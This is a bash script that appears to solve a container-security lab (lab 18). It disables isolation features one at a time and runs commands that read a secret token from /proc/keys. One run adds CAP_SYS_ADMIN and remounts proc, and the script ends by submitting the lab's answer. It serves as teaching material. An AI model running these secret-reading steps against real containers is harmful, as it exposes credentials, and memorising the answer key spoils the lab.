#!/bin/bash
# One way through lab 18. Run it as root in the lab's directory.
set -euo pipefail
root=bundle/rootfs

# A container with the hole $1, in which the attack has captured its token. The other words are options of run.
capture() {
    local hole=$1
    shift
    minirun run --detach "$@" --bundle bundle "lab18-$hole"
    ./ask "sh /attack/$hole > /captured/$hole"
    minirun lab check 18 || true
    minirun delete --force "lab18-$hole"
}

echo 'grep token /proc/keys' >$root/attack/masked-paths
echo 'mount -t proc proc /tmp && grep token /tmp/keys' >$root/attack/admin
jq '.process.capabilities |= map_values(. + ["CAP_SYS_ADMIN"])' bundle/config.json >admin.json

for id in $(minirun list --quiet | grep ^lab18); do
    minirun delete --force "$id"
done
rm -f $root/captured/* $root/kept/*
before=$(cat /proc/sys/kernel/core_pattern)
exec 9</root
for hole in pivot descriptors pid masked-paths readonly-paths; do
    capture "$hole" --without "$hole"
done
capture admin --config admin.json
echo "$before" >/proc/sys/kernel/core_pattern

minirun run --detach --bundle bundle lab18
# shellcheck disable=SC2016 # it is the container's shell that has to read it
./ask 'cd /attack; for name in *; do sh $name > /kept/$name 2>&1; done'
minirun lab answer 18 nobody pid
